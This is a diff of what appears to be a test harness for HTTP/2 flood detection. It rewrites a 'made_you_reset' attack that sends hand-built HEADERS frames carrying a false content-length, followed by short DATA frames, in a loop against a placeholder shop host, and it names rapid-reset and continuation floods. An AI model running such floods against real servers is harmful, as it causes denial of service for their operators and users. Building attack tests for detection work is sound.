@@ -155,7 +155,7 @@ def text(value):
     return bytes((len(value),)) + value
 
 
-def head(path=b"/checkout", more=b""):
+def head(path=b"/inventory", more=b""):
     return b"\x82\x86\x44" + text(path) + b"\x41" + text(b"shop.example") + more
 
 
@@ -184,8 +184,8 @@ def rapid_reset(stop):
 
 @attack("pollgate_h2_flood_early_resets_total")
 def made_you_reset(stop):
-    ask, too_much = head(), struct.pack(">I", 0x7FFFFFFF)
-    many(stop, lambda i: frame(HEADERS, END_STREAM | END_HEADERS, i, ask) + frame(WINDOW_UPDATE, 0, i, too_much))
+    ask = head(more=b"\x0f\x0d" + text(b"5"))  # a content-length that is not kept
+    many(stop, lambda i: frame(HEADERS, END_HEADERS, i, ask) + frame(DATA, END_STREAM, i, b"x"))
 
 
 @attack("pollgate_h2_flood_continuations_total")
